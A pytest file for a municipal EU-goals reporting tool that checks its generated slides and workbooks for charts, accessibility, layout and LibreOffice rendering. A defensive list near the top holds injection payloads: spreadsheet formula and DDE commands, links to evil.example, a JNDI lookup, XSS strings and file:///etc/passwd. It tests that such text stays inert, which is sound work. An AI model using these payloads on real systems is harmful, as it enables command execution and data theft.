"""Slides and workbook: what they say is what the verdicts say, they are native and accessible, nothing in them runs or
leads out, and LibreOffice opens both."""

import io
import os
import re
import shutil
import subprocess
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from functools import cache
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from pptx import Presentation
from pptx.enum.dml import MSO_LINE

from analytics.charts.words import unit_of
from analytics.editions import ensure_sample, open_store
from analytics.reports.content import SECTIONS, Content, Facts, GoalContent, Table, content
from analytics.reports.facts import facts_of
from analytics.reports.forms import Brand, Wish, file_name, make
from analytics.reports.office import ink_on
from analytics.reports.slides import course, drawn, slides
from analytics.reports.workbook import workbook
from analytics.settings import settings
from analytics.tables import complete
from tests.conftest import ROOT

LANGUAGES = ("da", "en")
SAMPLES = ("data", "data/example")
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", " =1+1", "＝1+1", "-A1", "+49 (0)",
    '=HYPERLINK("http://evil.example","x")', "=WEBSERVICE(\"http://evil.example\")", "=DDE(\"a\";\"b\")", "{=1+1}",
    "http://evil.example/", "https://evil.example", "ftp://evil.example", "mailto:a@evil.example", "file:///etc/passwd",
    "\\\\evil.example\\share", "internal:'Money'!A1", "external:c:\\x.xlsx", "javascript:alert(1)",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</a:t></a:r><a:r>", "]]>", "<!--", "<![CDATA[x]]>",
    "&lt;&amp;&#x3c;", "&xxe;", "\"'><svg onload=alert(1)>", "{{7*7}}", "${jndi:ldap://evil.example}", "%s%n",
    "\x00\x08x",
    "_x0041_", "\u202egnp", "\ufffe\uffff", "a" * 3000, "🧨" * 50, "1e5", "2012-03-12",
]  # fmt: skip
"""Scripts, links, formulas, markup and letters that XML cannot hold."""


@pytest.fixture(scope="module")
def facts(tmp_path_factory: pytest.TempPathFactory):
    @cache
    def of(sample: str) -> Facts:
        folder = tmp_path_factory.mktemp("store")
        chosen = settings().model_copy(
            update={"data_dir": folder, "database_url": "", "sample_dir": ROOT / sample}
        )  # fmt: skip
        store = open_store(chosen)
        head = ensure_sample(store, chosen)
        fixed = replace(store.edition(head.number), published_at=datetime(2012, 3, 12, 13, 5, tzinfo=UTC))
        return replace(facts_of(store, head.number, None), edition=fixed)

    return of


def deck_of(of: Facts, said: Content):
    return Presentation(io.BytesIO(slides(of, said, SECTIONS, Brand())))


def book_of(of: Facts, said: Content):
    return openpyxl.load_workbook(io.BytesIO(workbook(of, said, SECTIONS, Brand())))


def charts_of(slide) -> list:
    return [shape for shape in slide.shapes if shape.has_chart]


def notes_of(slide) -> str:
    return slide.notes_slide.notes_text_frame.text


def goal_slides(deck, said: Content) -> list:
    """The slide of each goal, told by its notes, which begin with source and title."""
    titles = {" ".join(goal.title.split()) for goal in said.goals}
    return [each for each in deck.slides if notes_of(each).split("\n")[1] in titles and charts_of(each)]


def rows_of(sheet) -> list[dict]:
    heading, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(heading, row, strict=True)) for row in rows]


def widths_of(sheet) -> dict[int, float]:
    """The width of each column by its number: openpyxl keeps neighbours of one width as one."""
    return {
        number: of.width for of in sheet.column_dimensions.values() for number in range(of.min, of.max + 1) if of.width
    }


def bare(interval_end: float | None) -> float | None:
    return None if interval_end is None or pd.isna(interval_end) else interval_end


# --- slides ---


@pytest.mark.parametrize("sample", SAMPLES)
@pytest.mark.parametrize("language", LANGUAGES)
def test_each_goal_has_a_slide_with_a_native_chart_of_its_verdict(facts, sample, language) -> None:
    of = facts(sample)
    said = content(of, language)
    shown = goal_slides(deck_of(of, said), said)
    assert len(shown) == len(said.goals) > 0
    for slide, goal in zip(shown, said.goals, strict=True):
        assert slide.shapes.title.text == goal.title
        (frame,) = charts_of(slide)
        certain = next(iter(frame.chart.plots[0].series))
        low = [value for value in certain.values if value is not None]
        assert low[-1] == pytest.approx(goal.verdict.path["low"].iloc[-1])
        days, columns = course(goal.verdict)
        lines = [list(line.values) for line in frame.chart.plots[0].series]
        assert lines == [columns[name] for name in drawn(columns)]
        embedded = openpyxl.load_workbook(io.BytesIO(frame.chart.part.chart_workbook.xlsx_part.blob)).active
        column = [row[0] for row in embedded.iter_rows(min_row=2, values_only=True)]
        assert [day.date() for day in column] == days
        assert frame._element.xpath("./*/p:cNvPr/@descr") == [goal.course_alt or goal.bullet_alt]
        words = "\n".join(shape.text_frame.text for shape in slide.shapes if shape.has_text_frame)
        assert goal.status_words in words  # the word, not the colour alone
        assert " ".join(f"{goal.value} {goal.of}".split()) in words
        assert all(sentence in notes_of(slide) for sentence in goal.sentences)


def test_the_course_of_a_goal_keeps_every_point_and_jumps_in_a_day(facts) -> None:
    for verdict in facts("data/example").verdicts:
        days, columns = course(verdict)
        assert days == sorted(set(days))
        for row in verdict.path.itertuples():
            at = days.index(pd.Timestamp(row.as_of).date())
            assert (columns["certain"][at], columns["possible"][at]) == (row.low, bare(row.high))
        assert set(columns["target"]) == {verdict.goal.target}


def test_both_ends_of_an_open_interval_are_seen_even_on_the_target(facts) -> None:
    of = facts("data")
    said = content(of, "en")
    slide, bounded, unbounded = goal_slides(deck_of(of, said), said)
    assert (said.goals[0].verdict.interval.high, said.goals[0].verdict.goal.target) == (3, 3)
    (frame,) = charts_of(slide)
    lines = list(frame.chart.plots[0].series)
    # the last line lies on the others: dashes, so that the target is seen between them
    assert [line.name for line in lines][2:] == ["Target: at least 3", "At most"]
    assert lines[-1].format.line.dash_style == MSO_LINE.DASH and lines[-2].format.line.dash_style is None
    assert [point.get("val") for point in lines[-1]._element.xpath("./c:dPt/c:idx/@val/..")] == [
        str(max(place for place, value in enumerate(lines[-1].values) if value is not None))
    ]
    assert said.goals[2].verdict.interval.high is None
    words = [[shape.text_frame.text for shape in each.shapes if shape.has_text_frame] for each in (bounded, unbounded)]
    assert ["Nothing bounds the figure from above: the chart shows only what is certain." in of for of in words] == [
        False, True
    ]  # fmt: skip


def test_what_is_possible_is_drawn_only_where_it_is_more_than_certain() -> None:
    lines = {"certain": [0.0, 1.0], "expected": [None, None], "target": [3.0, 3.0]}
    assert drawn(lines | {"possible": [0.0, 1.0]}) == ["certain", "target"]
    assert drawn(lines | {"possible": [0.0, 2.0]}) == ["certain", "target", "possible"]
    assert drawn(lines | {"possible": [None, None]}) == ["certain", "target"]


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_sample_is_nine_slides_with_nothing_cut(facts, language) -> None:
    of = facts("data")
    said = content(of, language)
    deck = deck_of(of, said)
    # title, summary with all goals, three goals, portfolio, projects, money, sources; no edition before, so no changes
    assert len(deck.slides) == 1 + 1 + 3 + 1 + 1 + 1 + 1
    for slide in deck.slides:
        assert not [shape for shape in slide.shapes if shape.has_text_frame and "…" in shape.text_frame.text]
        tables = [shape.table for shape in slide.shapes if shape.has_table]
        assert not [cell.text for table in tables for cell in table.iter_cells() if "…" in cell.text]
    overview = next(shape.table for shape in deck.slides[1].shapes if shape.has_table)
    assert [row.cells[0].text for row in overview.rows][1:] == [goal.title for goal in said.goals]
    projects = next(shape.table for shape in deck.slides[6].shapes if shape.has_table)
    assert len(list(projects.rows)) == 1 + len(of.projects) and len(projects.columns) == 7
    for row in said.portfolio[-1].rows:  # titles too, whole
        assert " · ".join(row) in notes_of(deck.slides[6])
    for row in said.definitions.rows:
        assert f"{row[0]} ({row[1]}): {row[2]}" in notes_of(deck.slides[8])


def test_a_long_title_stands_whole_in_smaller_type(facts) -> None:
    of = facts("data")
    said = content(of, "en")
    long = "The municipality leads partnerships on green growth, learning and culture " * 4  # 4 × 74 = 296 characters
    deck = deck_of(of, replace(said, goals=(replace(said.goals[0], title=long.strip()),)))
    assert long.strip() in [slide.shapes.title.text for slide in deck.slides]


@pytest.mark.parametrize("language", LANGUAGES)
def test_slides_have_titles_languages_alternatives_and_notes(facts, language) -> None:
    of = facts("data/example")
    said = content(of, language)
    deck = deck_of(of, said)
    assert (deck.slide_width / deck.slide_height) == pytest.approx(16 / 9, abs=1e-3)
    tag = {"da": "da-DK", "en": "en-GB"}[language]
    assert (deck.core_properties.language, deck.core_properties.title) == (tag, said.title)
    for slide in deck.slides:
        assert slide.shapes.title is not None and slide.shapes.title.text.strip()
        assert slide.shapes[0].is_placeholder  # the title is read first
        assert said.checksum in notes_of(slide)
        assert set(slide._element.xpath(".//a:r/a:rPr/@lang")) == {tag}
        assert len(slide._element.xpath(".//a:r")) == len(slide._element.xpath(".//a:r/a:rPr[@lang]"))
        for frame in slide._element.xpath(".//p:graphicFrame/*/p:cNvPr"):
            assert frame.get("descr")
        for shape in slide.shapes:
            assert shape.left >= 0 and shape.left + shape.width <= deck.slide_width
            assert shape.top >= 0 and shape.top + shape.height <= deck.slide_height
    titles = [slide.shapes.title.text for slide in deck.slides]
    assert len(titles) == len(set(titles))


def test_money_is_stacked_and_loans_stand_in_no_sum(facts) -> None:
    of = facts("data")
    said = content(of, "da")
    deck = deck_of(of, said)
    # one slide; by programme, as no amount of the sample has a year
    (slide,) = [each for each in deck.slides if each.shapes.title.text.startswith("Midler")]
    assert slide.shapes.title.text == "Midler efter program, EUR"
    (frame,) = charts_of(slide)
    plot = frame.chart.plots[0]
    assert [line.name for line in plot.series] == ["EU-tilskud", "Egenfinansiering", "Øvrige offentlige og private"]
    eu, own, _ = plot.series
    assert list(plot.categories)[:4] == ["ELENA (EIB)", "INTERREG IVC", "Interreg IVA Öresund", "Interreg South Baltic"]
    # ELENA's grant is unknown, its loan of 5,380,104.37 is in no bar; RENERGY, UDLAVI and InterLoc to the cent
    assert list(eu.values)[:4] == [None, 1_718_589.54, 154_644.00, 403_770.00]
    assert set(own.values) == {None}  # every own contribution is unknown: blank, not 0
    (alt,) = frame._element.xpath("./*/p:cNvPr/@descr")
    assert "INTERREG IVC: EU-tilskud 1.718.589,54 EUR, Egenfinansiering Ukendt" in alt.replace("\xa0", " ")
    tables = [shape.table for shape in slide.shapes if shape.has_table]
    assert [row.cells[0].text for row in tables[1].rows] == ["Program", "ELENA (EIB)"]
    assert tables[1].cell(1, 1).text.replace("\xa0", " ") == "5.380.104,37 EUR"
    words = " ".join(shape.text_frame.text for shape in slide.shapes if shape.has_text_frame)
    assert "Ukendte beløb: ELENA (EIB) (2), INTERREG IVC (1)" in words
    for table in said.money:
        assert all(" · ".join(row) in notes_of(slide) for row in table.rows)


def test_money_stands_by_year_where_most_of_it_has_one(facts) -> None:
    of = facts("data")
    (row,) = of.funding["year"].to_dict("records")
    years = pd.DataFrame([row | {"value": "2012", "eu_known": 300.0}, row | {"value": "2013", "eu_known": 200.0}])
    undated = pd.DataFrame([row | {"eu_known": 400.0}])
    # 500 of 900 have a year: more than half; 500 of 1,300 do not
    for known, title in ((400.0, "Money by year, EUR"), (800.0, "Money by programme, EUR")):
        by_year = pd.concat([years, undated.assign(eu_known=known)], ignore_index=True)
        changed = replace(of, funding={**of.funding, "year": by_year})
        assert title in [slide.shapes.title.text for slide in deck_of(changed, content(changed, "en")).slides]


def test_text_is_cut_with_an_ellipsis_and_stands_whole_in_the_notes(facts) -> None:
    of = facts("data")
    said = content(of, "en")
    long = "A title that never ends " * 20
    goal = replace(said.goals[0], title=long, sentences=("And so on and so forth. " * 100,))
    deck = deck_of(of, replace(said, goals=(goal,)))
    slide = next(each for each in deck.slides if long.strip() in notes_of(each) and charts_of(each))
    assert "And so on and so forth." in " ".join(
        shape.text_frame.text for shape in slide.shapes if shape.has_text_frame
    )
    assert "…" in slide.placeholders[1].text_frame.text
    assert ("And so on and so forth. " * 100).strip() in notes_of(slide)


# --- workbook ---


@pytest.mark.parametrize("sample", SAMPLES)
@pytest.mark.parametrize("language", LANGUAGES)
def test_the_workbook_holds_the_verdicts_as_numbers(facts, sample, language) -> None:
    of = facts(sample)
    said = content(of, language)
    book = book_of(of, said)
    sheet = book["Mål" if language == "da" else "Goals"]
    names = {
        "da": ("Tal, fra", "Tal, til", "Målværdi", "Frist"),
        "en": ("Figure, from", "Figure, to", "Target", "Deadline"),
    }
    for row, goal in zip(rows_of(sheet), said.goals, strict=True):
        low, high, aim, deadline = (row[name] for name in names[language])
        assert low == pytest.approx(goal.verdict.interval.low, rel=1e-15)
        assert high == (None if goal.verdict.interval.high is None else pytest.approx(goal.verdict.interval.high))
        assert (aim, deadline and deadline.date()) == (goal.verdict.goal.target, goal.verdict.goal.last_day)
    formats = {cell.number_format for cell in sheet["F"][1:]}
    kinds = {"share": "0.00%", "EUR": "#,##0"}
    # counts of the samples are whole; `#,##0.##` would show 3 as `3.`
    assert formats == {kinds.get(unit_of(goal.verdict), "#,##0") for goal in said.goals}


def test_every_sheet_has_a_table_with_filters_a_frozen_heading_and_no_formula(facts) -> None:
    of = facts("data")
    book = book_of(of, content(of, "en"))
    assert book.sheetnames == [
        "Summary", "Goals", "Missing cells", "Projects", "Money", "What changed", "Sources", "Definitions"
    ]  # fmt: skip
    for sheet in book:
        (table,) = sheet.tables.values()
        assert table.autoFilter is not None and sheet.freeze_panes.endswith("2")
        assert all(sheet.column_dimensions[cell.column_letter].width >= 8 for cell in sheet[1])
        assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "d"}
    assert (book.properties.title, book.properties.creator) == ("EU strategy: how the goals stand", "Slagelse Kommune")
    assert len(rows_of(book["Projects"])) == len(of.projects) == 9
    lines = rows_of(book["Money"])
    assert len(lines) == of.tables["budget_lines"].num_rows
    for line in lines:
        if line["Currency"] not in ("EUR", None) and line["EUR"]:
            assert line["EUR"] == pytest.approx(line["Amount"] / line["Units to the euro"])
            assert line["Source of the rate"] and line["Rate of"]


@pytest.mark.parametrize("language", LANGUAGES)
def test_sheets_are_legible_on_paper(facts, language) -> None:
    of = facts("data")
    book = book_of(of, content(of, language))
    for sheet in book:
        setup = sheet.page_setup
        assert (setup.orientation, setup.paperSize, setup.fitToHeight) == ("landscape", 9, 0)
        widths = widths_of(sheet)
        width = sum(widths.values())
        # A4 across holds about 130 characters of 11 points; no page more than one and a half times that, so 7 points
        assert width / (setup.fitToWidth or 1) <= 130 * 1.5
        for row in sheet.iter_rows():
            for cell in row:
                lines = len(str(cell.value or "")) / widths[cell.column]
                if cell.alignment.wrap_text and lines > 1.2:  # its row is high enough: 15 points a line
                    assert sheet.row_dimensions[cell.row].height >= 15 * min(int(lines), 27)
    days = {cell.number_format for sheet in book for row in sheet.iter_rows() for cell in row if cell.is_date}
    assert days == {{"da": "dd-mm-yyyy", "en": "[$-809]d mmm yyyy"}[language]}


# --- both ---


def infested(said: Content, words: str) -> Content:
    """The content with one text in every field that an upload can fill."""

    def table(of: Table) -> Table:
        return replace(of, rows=tuple(tuple(words for _ in row) for row in of.rows))

    def goal(of: GoalContent) -> GoalContent:
        return replace(
            of, title=words, value=words, sentences=(words,), note=words, interpretation=words, source=words,
            owner=words,            missing=table(of.missing), definition=words, course_alt=words, bullet_alt=words,
        )  # fmt: skip

    return replace(
        said, title=words, organisation=words, published=words, summary=(words,), invented=words, changes=(words,),
        goals=tuple(map(goal, said.goals)), portfolio=tuple(map(table, said.portfolio)),
        money=tuple(map(table, said.money)), sources=table(said.sources), definitions=table(said.definitions),
    )  # fmt: skip


def entries(made: bytes) -> dict[str, bytes]:
    """Every entry of an Office file, those of embedded workbooks too."""
    found = {}
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        for name in archive.namelist():
            found[name] = archive.read(name)
            if name.endswith(".xlsx"):
                found |= {f"{name}!{inner}": body for inner, body in entries(found[name]).items()}
    return found


@pytest.mark.parametrize("words", PAYLOADS)
def test_a_payload_in_every_text_field_stays_a_text(facts, words) -> None:
    of = facts("data")
    projects = of.projects.assign(acronym=words, title=words, programme=words, note=words, source=words)
    funding = {name: frame.assign(value=words) for name, frame in of.funding.items()}
    spread = {name: frame.assign(value=words) for name, frame in of.spread.items()}
    of = replace(of, projects=projects, funding=funding, spread=spread)
    said = infested(content(of, "en"), words)
    shown, book = slides(of, said, SECTIONS, Brand()), workbook(of, said, SECTIONS, Brand())
    for made in (shown, book):
        for name, body in entries(made).items():
            assert b'TargetMode="External"' not in body, name
            assert b"<hyperlink" not in body and b"hlinkClick" not in body, name
            if "worksheets/" in name:
                assert not re.search(rb"<f[ >]", body), name
        assert not [name for name in entries(made) if re.search("vba|macro|activeX|externalLink", name, re.I)]
    Presentation(io.BytesIO(shown))
    title = rows_of(openpyxl.load_workbook(io.BytesIO(book))["Goals"])[0]["Goal"]
    if words.isprintable() and words.isascii() and "_x" not in words:
        assert title == words


@pytest.mark.parametrize("form", ["slides", "workbook"])
@pytest.mark.parametrize("language", LANGUAGES)
def test_the_same_report_is_the_same_bytes(facts, form, language) -> None:
    of, wish = facts("data/example"), Wish(language)
    made = make(form, of, wish)
    assert made == make(form, of, wish)
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def empty(of: Facts) -> Facts:
    return replace(
        of, tables=complete({}), verdicts=(), forecasts={}, before={}, projects=of.projects.iloc[:0], stories=(),
        stories_from=None,
        spread={name: frame.iloc[:0] for name, frame in of.spread.items()},
        funding={name: frame.iloc[:0] for name, frame in of.funding.items()},
    )  # fmt: skip


@pytest.mark.parametrize("language", LANGUAGES)
def test_an_empty_portfolio_says_so(facts, language) -> None:
    of = empty(facts("data"))
    said = content(of, language)
    words = " ".join(
        shape.text_frame.text for slide in deck_of(of, said).slides for shape in slide.shapes if shape.has_text_frame
    )
    assert {"da": "Denne udgave har ingen mål.", "en": "This edition has no goals."}[language] in words
    assert not rows_of(book_of(of, said).worksheets[1])


def test_sixty_goals_are_sixty_slides_and_sixty_rows(facts) -> None:
    of = facts("data")
    said = content(of, "en")
    goals = tuple(replace(said.goals[number % 3], title=f"Goal {number}", goal_id=f"g{number}") for number in range(60))
    said = replace(said, goals=goals)
    deck = deck_of(of, said)
    assert len(goal_slides(deck, said)) == 60
    assert len(rows_of(book_of(of, said)["Goals"])) == 60
    tabled = [each for each in deck.slides if each.shapes.title.text.startswith("All goals (")]
    rows = sum(len(shape.table.rows) - 1 for each in tabled for shape in each.shapes if shape.has_table)
    words = " ".join(shape.text_frame.text for shape in tabled[-1].shapes if shape.has_text_frame)
    assert len(tabled) <= 4 and (rows == 60 or f"… and {60 - rows} more." in words)


def test_a_table_too_long_for_its_slides_says_how_many_rows_are_left(facts) -> None:
    of = facts("data")
    said = content(of, "en")
    long = Table("Files", ("Source", "What comes from it"), tuple((f"{n}.csv", "Projects (1 row)") for n in range(99)))
    deck = deck_of(of, replace(said, sources=long))
    (slide,) = [each for each in deck.slides if each.shapes.title.text == "Sources"]
    (table,) = [shape.table for shape in slide.shapes if shape.has_table]
    words = " ".join(shape.text_frame.text for shape in slide.shapes if shape.has_text_frame)
    assert f"… and {99 - (len(table.rows) - 1)} more." in words  # shown and left are all 99
    assert "98.csv · Projects (1 row)" in notes_of(slide)


def test_only_the_sections_asked_for_are_made_in_their_order(facts) -> None:
    of = facts("data")
    book = openpyxl.load_workbook(io.BytesIO(make("workbook", of, Wish("en", ("money", "goals")))))
    assert book.sheetnames == ["Summary", "Goals", "Missing cells", "Money"]
    deck = Presentation(io.BytesIO(make("slides", of, Wish("en", ("changes",)))))
    assert [slide.shapes.title.text for slide in deck.slides][1:] == ["What changed"]


def test_the_organisation_shows_its_name_colour_and_logo(facts) -> None:
    of = facts("data")
    logo = (ROOT / "docs/images/goals.png").read_bytes()
    brand = Brand("Næstved", "#ffdd00", logo)
    made = make("slides", of, Wish("da", brand=brand))
    first = Presentation(io.BytesIO(made)).slides[0]
    (picture,) = [shape for shape in first.shapes if shape.shape_type == 13]
    assert picture._element.xpath("./*/p:cNvPr/@descr") == ["Logo for Næstved"]
    assert any(b"FFDD00" in body for name, body in entries(made).items() if "theme" in name)
    assert "Næstved" in " ".join(shape.text_frame.text for shape in first.shapes if shape.has_text_frame)
    assert (ink_on("#ffdd00"), ink_on("#1b4596")) == ("#131b2c", "#ffffff")  # dark on yellow, white on blue
    with pytest.raises(ValueError, match="logo"):
        make("slides", of, Wish("da", brand=Brand(logo=b"no picture")))


def test_files_are_named_in_plain_letters_without_anybody_s_name(facts) -> None:
    of = facts("data")
    assert of.as_of == date(2012, 3, 12)
    assert file_name("pdf", of, "da") == "eu-strategi-2012-03-12-udgave-1.pdf"
    assert file_name("slides", of, "en") == "eu-strategy-2012-03-12-edition-1.pptx"


# --- LibreOffice ---


def converted(made: bytes, suffix: str, folder: Path) -> str:
    """What LibreOffice makes of a file, as text; its profile in a folder of its own."""
    office = os.environ.get("OFFICE") or shutil.which("soffice") or shutil.which("libreoffice")
    if not office or not shutil.which("pdftotext"):
        pytest.skip("no LibreOffice or pdftotext here: tools/office installs both")
    file = folder / f"report.{suffix}"
    file.write_bytes(made)
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    said = subprocess.run(
        [office, profile, "--headless", "--convert-to", "pdf", "--outdir", folder, file],
        capture_output=True, text=True, timeout=240, check=True,
    )  # fmt: skip
    assert "Error" not in said.stderr, said.stderr
    shown = subprocess.run(
        ["pdftotext", "-layout", folder / "report.pdf", "-"], capture_output=True, text=True, timeout=60, check=True
    )
    return "".join(shown.stdout.split())  # small print stands close: spaces are no matter


@pytest.mark.parametrize("form", ["slides", "workbook"])
def test_libreoffice_opens_it_and_shows_the_figures(facts, form, tmp_path) -> None:
    of = facts("data")
    said = content(of, "da")
    shown = converted(make(form, of, Wish("da")), {"slides": "pptx", "workbook": "xlsx"}[form], tmp_path)
    for goal in said.goals:
        for words in (goal.status_words, goal.value, goal.title.split()[0]):
            assert "".join(words.split()) in shown
